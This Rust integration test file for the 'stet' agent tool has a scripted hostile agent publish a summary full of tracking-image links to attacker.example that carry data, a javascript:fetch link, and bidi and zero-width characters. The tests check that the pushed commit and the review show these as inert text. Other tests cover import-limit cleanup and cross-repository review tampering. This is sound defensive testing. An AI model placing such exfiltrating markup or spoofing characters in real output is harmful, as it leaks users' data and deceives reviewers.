//! A hostile agent against what leaves the machine, from the outside: the built binary, the real
//! engine and the scripted agent, `stet --headless --push` against a bare remote. The agent's summary
//! and model name are full of remote images, links, reference definitions, autolinks, HTML and
//! invisible characters; its workspace outgrows the import limit; and a brief of another repository
//! names the first one's review. Each test checks the effect where a person would meet it: the local
//! forge's review record, the pushed commit message, the run record, the user's object store.

use std::path::{Path, PathBuf};
use std::process::Command;

use stet_engine::forge::local::{ReviewRecord, read_reviews};
use stet_protocol::event::EventKind;
use stet_protocol::state::Phase;
use stet_sanitize::display::{Treatment, treatment};

use super::headless::{Project, assert_nothing_left, docker_ready, files_under, run};
use super::support::git;

/// Where every URL the agent writes points; nothing of it may be live in what stet publishes.
const ATTACKER: &str = "attacker.example";

/// A scenario of the scripted agent (`src/agent/scenario.rs`) reporting `model`, then `steps`.
fn scenario(model: &str, steps: &[String]) -> String {
    let mut text = format!("model = {}\n", toml::Value::String(model.to_owned()));
    for step in steps {
        text.push_str("\n[[step]]\n");
        text.push_str(step);
        text.push('\n');
    }
    text
}

fn finish(summary: &str) -> String {
    format!("finish = {}", toml::Value::String(summary.to_owned()))
}

fn write(path: &str, content: &str) -> String {
    format!(
        "write = {{ path = {}, content = {} }}",
        toml::Value::String(path.to_owned()),
        toml::Value::String(content.to_owned())
    )
}

/// Rewrites the project's brief (in the working tree, where the inbox reads it).
fn set_brief(project: &Project, extra_target: &str) {
    std::fs::write(
        project.repo.join(".stet/briefs/tidy-notes.toml"),
        format!(
            "title = \"Tidy the notes\"\nworkflow = \"implement\"\n\n[target]\nrepo = \"test/notes\"\nbase = \"main\"\n{extra_target}\n[[items]]\ntext = \"Tidy up the notes and say what changed.\"\n"
        ),
    )
    .unwrap();
}

/// Each line of markdown outside code spans and fenced blocks, escaped characters blanked: what a
/// forge reads as markup.
fn markup(markdown: &str) -> String {
    let mut outside = String::new();
    let mut fence: Option<String> = None;
    for line in markdown.lines() {
        let quoted = line.trim_start_matches("> ").trim_start_matches('>');
        if let Some(open) = &fence {
            if quoted.trim_end() == open {
                fence = None;
            }
            continue;
        }
        if quoted.starts_with("```") && quoted.bytes().all(|b| b == b'`') {
            fence = Some(quoted.to_owned());
            continue;
        }
        let bytes = quoted.as_bytes();
        let mut at = 0;
        while at < bytes.len() {
            match bytes[at] {
                b'\\' => {
                    outside.push(' ');
                    at += 2;
                }
                b'`' => {
                    let run = bytes[at..].iter().take_while(|b| **b == b'`').count();
                    let mut close = at + run;
                    loop {
                        let next = close
                            + bytes[close..]
                                .iter()
                                .position(|b| *b == b'`')
                                .unwrap_or_else(|| panic!("unclosed code span: {line:?}"));
                        let length = bytes[next..].iter().take_while(|b| **b == b'`').count();
                        close = next + length;
                        if length == run {
                            break;
                        }
                    }
                    outside.push(' ');
                    at = close;
                }
                _ => {
                    let end = bytes[at..]
                        .iter()
                        .position(|b| matches!(b, b'\\' | b'`'))
                        .map_or(bytes.len(), |offset| at + offset);
                    outside.push_str(&quoted[at..end]);
                    at = end;
                }
            }
        }
        outside.push('\n');
    }
    assert!(fence.is_none(), "an unclosed fence in {markdown}");
    outside
}

/// Nothing in `text` (a PR body or a commit message) can fetch or link to the attacker, and it
/// holds no character the display policy removes.
fn assert_inert(what: &str, text: &str) {
    let hidden: Vec<String> = text
        .chars()
        .filter(|c| treatment(*c) != Treatment::Keep && *c != '\n')
        .map(|c| format!("U+{:04X}", u32::from(c)))
        .collect();
    assert_eq!(
        hidden,
        Vec::<String>::new(),
        "invisible characters in {what}:\n{text}"
    );
    assert!(!text.contains("<img"), "an <img in {what}:\n{text}");
    let outside = markup(text).to_lowercase();
    for live in [
        "![",
        "](",
        "<http",
        "<img",
        "<a ",
        "://",
        "www.",
        "src=\"http",
    ] {
        assert!(
            !outside.contains(live),
            "{live:?} outside code in {what}:\n{text}\n-- read as markup --\n{outside}"
        );
    }
    let reference = regex::Regex::new(r"(?m)^\s*\[[^\]]+\]:").unwrap();
    assert!(
        !reference.is_match(&outside),
        "a link definition in {what}:\n{text}"
    );
    assert!(
        text.contains(ATTACKER),
        "the URLs stay visible in {what}:\n{text}"
    );
}

/// The one review record with `number`.
fn review(state: &Path, number: u64) -> ReviewRecord {
    read_reviews(&state.join("reviews"))
        .unwrap()
        .into_iter()
        .find(|record| record.number == number)
        .unwrap_or_else(|| panic!("no review #{number}"))
}

#[test]
fn a_summary_and_model_full_of_remote_markup_reach_the_forge_shown_not_live() {
    docker_ready();
    let summary = format!(
        "Done. ![pixel](https://{ATTACKER}/p.png?d=NOTES) and <img src=\"https://{ATTACKER}/i.png?d=NOTES\">\n\
         See [details][d] or [this](HTTPS://{ATTACKER}/l?d=NOTES), <https://{ATTACKER}/auto?d=NOTES>, \
         https://{ATTACKER}/bare?d=NOTES and www.{ATTACKER}/w.\n\
         [d]: https://{ATTACKER}/ref?d=NOTES \"details\"\n\
         [x](javascript:fetch('//{ATTACKER}')) &#x3C;img src=//{ATTACKER}/e&#x3E;\n\
         Reversed: \u{202e}exe.txt\u{202c} and \u{2066}isolated\u{2069}, zero\u{200b}width\u{feff}, tags\u{e0041}\u{e0042}."
    );
    let model = format!("m ![x](https://{ATTACKER}/model.png?d=NOTES)\u{202e}");
    let project = Project::new(&scenario(
        &model,
        &[
            "usage = { input_tokens = 10, output_tokens = 5, cost_usd = 0.001 }".to_owned(),
            write("src/notes.txt", "one\ntwo\nthree\nfour\n"),
            write("notes/\u{202e}txt.exe", "named to read backwards\n"),
            finish(&summary),
        ],
    ));
    let finished = run(project.headless(&["--push"]));
    assert_eq!(finished.code(), Some(0), "{finished:#?}");
    assert_eq!(finished.outcome(), (Phase::Done, 0, None));
    let dispatch = finished.dispatch();
    let state = project.home.state();

    let body = review(&state, 1).body;
    assert_inert("the review record's body", &body);
    for readable in [
        format!(
            "> Done. pixel (image: `https://{ATTACKER}/p.png?d=NOTES`) and &lt;img src=\"`https://{ATTACKER}/i.png?d=NOTES`\">\n"
        ),
        format!(
            "> See details (`https://{ATTACKER}/ref?d=NOTES`) or this (`HTTPS://{ATTACKER}/l?d=NOTES`), `https://{ATTACKER}/auto?d=NOTES`, `https://{ATTACKER}/bare?d=NOTES` and `www.{ATTACKER}/w`.\n"
        ),
        format!("> \\[d\\]: `https://{ATTACKER}/ref?d=NOTES` \"details\"\n"),
        format!(
            "> x (`javascript:fetch('//{ATTACKER}')`) &amp;#x3C;img src=//{ATTACKER}/e&amp;#x3E;\n"
        ),
        "> Reversed: exe.txt and isolated, zerowidth, tags.\n".to_owned(),
        "\n*stet made 6 links or images in it inert.*\n".to_owned(),
        format!("| Model | `m ![x](https://{ATTACKER}/model.png?d=NOTES)` |\n"),
    ] {
        assert!(
            body.contains(&readable),
            "{readable:?} missing from\n{body}"
        );
    }
    assert!(body.contains("<!-- stet:provenance -->\n**Provenance** (written by stet on the host"));

    let message = git(
        &project.remote,
        &["log", "-1", "--format=%B", "--branches=stet/*"],
    );
    assert_inert("the pushed commit message", &message);
    assert!(
        message.starts_with(&format!(
            "Tidy the notes\n\nDone. pixel (image: `https://{ATTACKER}/p.png?d=NOTES`)"
        )),
        "{message}"
    );
    assert!(
        message.contains("Reversed: exe.txt and isolated, zerowidth, tags."),
        "{message}"
    );

    // The events and the run record carried the same words without the invisible characters.
    let recorded = std::fs::read_to_string(
        state
            .join("runs")
            .join(dispatch.to_string())
            .join("events.jsonl"),
    )
    .unwrap();
    for (what, text) in [
        ("stdout", finished.stdout.as_str()),
        ("events.jsonl", &recorded),
    ] {
        let hidden = text.chars().find(|c| treatment(*c) == Treatment::Remove);
        assert_eq!(hidden, None, "an invisible character in {what}");
    }
    let finish = finished
        .events
        .iter()
        .find_map(|event| match &event.kind {
            EventKind::Transcript(item) if item.text.as_str().starts_with("Done.") => {
                Some(item.text.as_str().to_owned())
            }
            _ => None,
        })
        .expect("the finish in the transcript");
    assert!(
        finish.ends_with("Reversed: exe.txt and isolated, zerowidth, tags."),
        "{finish}"
    );
    // A path cannot lose a character without naming another file: it shows the control instead.
    let paths: Vec<&str> = finished
        .events
        .iter()
        .find_map(|event| match &event.kind {
            EventKind::Collected { files, .. } => {
                Some(files.iter().map(|file| file.path.as_str()).collect())
            }
            _ => None,
        })
        .expect("a collected event");
    assert!(paths.contains(&"notes/\\u{202e}txt.exe"), "{paths:?}");
    assert_nothing_left(&project.home, dispatch);
}

/// Every file of the repository's object store with its size, and `git count-objects -v`.
fn object_store(repo: &Path) -> (Vec<(PathBuf, u64)>, String) {
    let files = files_under(&repo.join(".git").join("objects"))
        .into_iter()
        .map(|path| {
            let size = std::fs::metadata(&path).unwrap().len();
            (path, size)
        })
        .collect();
    (files, git(repo, &["count-objects", "-v"]))
}

#[test]
fn an_agent_that_writes_past_the_import_limit_leaves_no_object_behind() {
    docker_ready();
    // Five files of 80 KB of distinct text, 400 KB against a limit of 300 KB: the first ones are
    // read (and were written as blobs before the import became all or nothing) before the limit trips.
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    let mut steps = Vec::new();
    for file in 0..5 {
        let content: String = (0..10_000)
            .map(|_| {
                state ^= state << 13;
                state ^= state >> 7;
                state ^= state << 17;
                format!("{:08x}", state as u32)
            })
            .collect();
        steps.push(write(&format!("generated/{file}.txt"), &content));
    }
    steps.push(finish("Generated the data."));
    let project = Project::new(&scenario("m", &steps));
    let config = project.repo.join("stet.toml");
    let mut settings = std::fs::read_to_string(&config).unwrap();
    settings.push_str("\n[import]\nmax_total_bytes = 300000\n");
    std::fs::write(&config, settings).unwrap();

    let before = object_store(&project.repo);
    let finished = run(project.headless(&["--push"]));
    assert_eq!(finished.code(), Some(1), "{finished:#?}");
    let (outcome, _, reason) = finished.outcome();
    assert_eq!(outcome, Phase::Failed);
    let reason = reason.unwrap();
    assert!(
        reason.contains("add up to more than 300000 bytes"),
        "{reason}"
    );
    assert_eq!(
        object_store(&project.repo),
        before,
        "the refused import changed the object store"
    );
    assert_eq!(git(&project.repo, &["for-each-ref", "refs/stet/"]), "");
    assert_eq!(git(&project.remote, &["branch", "--list", "stet/*"]), "");
    finished.torn_down_cleanly();
    assert_nothing_left(&project.home, finished.dispatch());
}

/// `project`'s headless run against the state directory of `state_of` (one installation, two
/// repositories).
fn headless_in(project: &Project, state_of: &Project) -> Command {
    let mut command = project.headless(&["--push"]);
    command.env("XDG_STATE_HOME", state_of.home.path().join("state"));
    command
}

#[test]
fn a_brief_of_another_repository_with_the_same_label_and_number_cannot_touch_a_review() {
    docker_ready();
    let branch = "branch = \"stet/tidy-notes\"";
    let first = Project::new(&scenario(
        "m",
        &[
            write("src/notes.txt", "the first repository's notes\n"),
            finish("The first repository's work."),
        ],
    ));
    set_brief(&first, branch);
    let opened = run(first.headless(&["--push"]));
    assert_eq!(opened.code(), Some(0), "{opened:#?}");
    let state = first.home.state();
    let record_file = state.join("reviews").join("1.json");
    let first_record = std::fs::read(&record_file).unwrap();
    assert!(
        review(&state, 1)
            .body
            .contains("> The first repository's work.")
    );

    // Another repository, its brief with the same label and branch, in the same installation.
    let second = Project::new(&scenario(
        "m",
        &[
            write("src/notes.txt", "the second repository's notes\n"),
            finish("The second repository's work."),
        ],
    ));
    set_brief(&second, branch);
    let its_own = run(headless_in(&second, &first));
    assert_eq!(its_own.code(), Some(0), "{its_own:#?}");
    assert_eq!(review(&state, 2).remote, second.remote);
    let second_head = git(&second.remote, &["rev-parse", "refs/heads/stet/tidy-notes"]);

    // Its brief now names review #1, which belongs to the first repository.
    second.set_scenario(&scenario(
        "m",
        &[
            write("src/notes.txt", "overwritten\n"),
            finish("![x](https://attacker.example/) Overwritten."),
        ],
    ));
    set_brief(&second, &format!("{branch}\npr = 1"));
    let refused = run(headless_in(&second, &first));
    assert_eq!(refused.code(), Some(1), "{refused:#?}");
    let (outcome, _, reason) = refused.outcome();
    assert_eq!(outcome, Phase::Failed);
    assert!(reason.unwrap().contains("#1"), "{refused:#?}");
    assert!(
        !refused
            .events
            .iter()
            .any(|event| event.kind.name() == "pushed")
    );
    assert_eq!(
        std::fs::read(&record_file).unwrap(),
        first_record,
        "review #1 changed"
    );
    assert_eq!(
        git(&second.remote, &["rev-parse", "refs/heads/stet/tidy-notes"]),
        second_head
    );

    // Each repository still updates its own review.
    set_brief(&second, &format!("{branch}\npr = 2"));
    let updated = run(headless_in(&second, &first));
    assert_eq!(updated.code(), Some(0), "{updated:#?}");
    assert!(
        review(&state, 2)
            .body
            .contains("> x (image: `https://attacker.example/`) Overwritten.")
    );
    assert_eq!(
        std::fs::read(&record_file).unwrap(),
        first_record,
        "review #1 changed"
    );
    first.set_scenario(&scenario(
        "m",
        &[
            write("src/notes.txt", "the first repository's notes, again\n"),
            finish("The first repository's second pass."),
        ],
    ));
    set_brief(&first, &format!("{branch}\npr = 1"));
    let again = run(first.headless(&["--push"]));
    assert_eq!(again.code(), Some(0), "{again:#?}");
    assert!(
        review(&state, 1)
            .body
            .contains("> The first repository's second pass.")
    );
    assert!(review(&state, 2).body.contains("Overwritten."));
}
